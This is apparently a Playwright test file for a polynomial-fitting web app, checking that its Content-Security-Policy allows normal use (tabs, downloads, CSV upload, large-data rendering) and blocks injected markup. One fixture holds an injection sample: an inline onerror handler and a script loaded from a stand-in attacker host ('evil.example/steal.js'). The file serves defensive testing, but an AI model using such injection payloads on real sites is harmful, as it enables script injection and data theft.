"""The app works under its Content-Security-Policy, and the policy stops injected markup.

The conftest serves the app with ``python -m polyfit_explorer``, whose every
page carries the policy of ``polyfit_explorer.server``.  A violation fires a
``securitypolicyviolation`` event in the page, recorded here from before the
page's first script: not every violation reaches the console (Bokeh's WebGL
renderer catches a blocked ``Function()`` and quietly draws without WebGL).
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from ._bokeh import RENDERED, SETTLED, sources
from .conftest import _WATCH
from .test_app import press_degree_up

#: Record every violation the page reports, from its first script on.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", event => window.__violations.push({
  directive: event.effectiveDirective, blocked: event.blockedURI,
  source: event.sourceFile, line: event.lineNumber}));
"""

#: What a shared link's markup could put into the page: an inline handler on an
#: image that fails to load (data:, so no request is made), and a script from
#: another origin.  A listener of the test's own tells that the error did fire.
INJECT = """() => {
  window.__ran = [];
  window.__errored = false;
  const box = document.createElement("div");
  box.innerHTML = '<img src="data:," onerror="window.__ran.push(\\'img\\')">';
  box.querySelector("img").addEventListener("error", () => { window.__errored = true; });
  document.body.append(box);
  const script = document.createElement("script");
  script.src = "https://evil.example/steal.js";
  document.head.append(script);
}"""

#: The other tabs of "Why does it fit like this?"; the first, Validation curve, is open.
#: Each is opened once: going back to a tab already shown sometimes makes Bokeh
#: raise "Cannot read properties of undefined (reading 'top_panel')", with or
#: without the policy.
TABS = ["Bias & variance", "Learning curve", "Coefficients", "Residuals"]
#: A diagnostic may take a few seconds on a busy machine.
COMPUTE_TIMEOUT = 60_000
LOAD_TIMEOUT = 30_000

CSV_ROWS = 10


@pytest.fixture
def app(page: Page, app_url: str) -> Page:
    """The app under its policy, drawn, with every violation recorded."""
    page.add_init_script(RECORD_VIOLATIONS)
    response = page.goto(app_url, timeout=LOAD_TIMEOUT)
    assert "'nonce-" in response.headers["content-security-policy"], "no policy in force"
    page.wait_for_function(RENDERED, timeout=LOAD_TIMEOUT)
    return page


def violations(page: Page) -> list[dict]:
    return page.evaluate("window.__violations")


def download(page: Page, label: str) -> bytes:
    # Not get_by_role(name=...): MUI's tooltip makes the button's doc its accessible name.
    with page.expect_download() as info:
        page.get_by_role("button").filter(has_text=label).click()
    return info.value.path().read_bytes()


def excuse(request: pytest.FixtureRequest, pattern: str) -> None:
    """Drop the console errors matching ``pattern`` from the conftest's clean-run check."""
    errors = request.node.stash[_WATCH].browser_errors
    errors[:] = [error for error in errors if not re.search(pattern, error)]


def test_the_app_works_under_its_policy_without_a_violation(app: Page):
    csp_messages = []
    app.on("console", lambda message: csp_messages.append(message.text)
           if "Content Security Policy" in message.text else None)

    # A slider moved with the keyboard refits over the websocket.
    press_degree_up(app)

    for title in TABS:
        tab = app.get_by_role("tab", name=title)
        tab.click()
        expect(tab).to_have_attribute("aria-selected", "true")
        app.wait_for_function(SETTLED, timeout=COMPUTE_TIMEOUT)

    app.get_by_text("Noise lab", exact=True).click()
    expect(app.get_by_role("slider", name="Outlier fraction", exact=True)).to_be_visible()

    assert download(app, "Data (CSV)").startswith(b"x,y,split")
    assert b"import numpy" in download(app, "Script (Python)")
    assert download(app, "Model (skops)").startswith(b"PK")  # a zip file

    rows = "".join(f"{t},{2 * t + 1}\n" for t in range(CSV_ROWS))
    app.get_by_label("Ground truth", exact=True).select_option("Your data (CSV upload)")
    app.locator("input[type=file]").set_input_files(
        files=[{"name": "mine.csv", "mimeType": "text/csv", "buffer": f"t,v\n{rows}".encode()}])
    expect(app.locator("td.train-n")).to_have_text(str(int(CSV_ROWS * 0.8)))
    app.wait_for_function(SETTLED, timeout=COMPUTE_TIMEOUT)

    assert violations(app) == []
    assert csp_messages == []


def test_injected_markup_does_not_run_and_is_reported(app: Page, request):
    with (app.expect_console_message(lambda m: "inline event handler" in m.text),
          app.expect_console_message(lambda m: "evil.example" in m.text)):
        app.evaluate(INJECT)
    app.wait_for_function("() => window.__errored && window.__violations.length >= 2")

    assert app.evaluate("window.__ran") == []
    assert sorted((v["directive"], v["blocked"]) for v in violations(app)) == [
        ("script-src-attr", "inline"),
        ("script-src-elem", "https://evil.example/steal.js"),
    ]
    # The two refusals are the console errors this test provokes; nothing else may be.
    excuse(request, r"Executing inline event handler violates .* Content Security Policy")
    excuse(request, r"Loading the script 'https://evil\.example/steal\.js' violates")


#: Above 20,000 points (plots.RASTER_THRESHOLD) the scatters are Datashader images.
LARGE_N = 30_000
#: The first large data import Datashader and compile its aggregation: seconds.
LARGE_TIMEOUT = 120_000

#: The last figure that draws an image (predicted against actual, whose wheel zoom is
#: active; the data plot's pointer edits points), and its image's data source.
FIND_IMAGE = """const view = Array.from(Bokeh.index.all_views()).filter(
    v => v.model.type === "Figure" && v.model.renderers.some(
      r => r.data_source !== undefined && "image" in r.data_source.data)).at(-1);
  const source = view?.model.renderers.find(
    r => r.data_source !== undefined && "image" in r.data_source.data).data_source;"""

#: Where that image lies, and how many of its pixels are drawn.
IMAGE = f"""() => {{
  {FIND_IMAGE}
  if (source === undefined || source.data.image.length === 0) return null;
  return {{x: source.data.x[0], dw: source.data.dw[0],
          drawn: Array.from(source.data.image[0]).filter(v => v !== 0).length}};
}}"""

#: That figure's x range and where its frame is on the screen.
FRAME = f"""() => {{
  {FIND_IMAGE}
  const canvas = view.canvas_view.el.getBoundingClientRect(), frame = view.frame.bbox;
  return {{start: view.model.x_range.start, end: view.model.x_range.end,
          x: canvas.left + frame.hcenter, y: canvas.top + frame.vcenter}};
}}"""


def test_large_data_is_drawn_as_images_that_follow_zooming(page: Page, app_url: str):
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(f"{app_url}?data.n_samples={LARGE_N}", timeout=LOAD_TIMEOUT)
    page.wait_for_function(RENDERED, timeout=LARGE_TIMEOUT)
    page.wait_for_function(SETTLED, timeout=LARGE_TIMEOUT)
    first = page.evaluate(IMAGE)
    assert first is not None
    assert first["drawn"] > 100
    # The points themselves are not sent: the train layer is there, empty.
    assert sources(page)["train"]["x"] == []

    # Zoom in with the mouse wheel: the image is aggregated again for the new range.
    frame = page.evaluate(FRAME)
    page.mouse.move(frame["x"], frame["y"])
    page.mouse.wheel(0, -600)
    page.wait_for_function(f"dw => ({IMAGE})()?.dw < 0.8 * dw", arg=first["dw"],
                           timeout=LARGE_TIMEOUT)
    page.wait_for_function(SETTLED, timeout=LARGE_TIMEOUT)
    zoomed, frame = page.evaluate(IMAGE), page.evaluate(FRAME)
    assert zoomed["x"] == pytest.approx(frame["start"], abs=1e-6 * first["dw"])
    assert zoomed["dw"] == pytest.approx(frame["end"] - frame["start"], rel=1e-6)
    assert zoomed["drawn"] > 100
    assert violations(page) == []
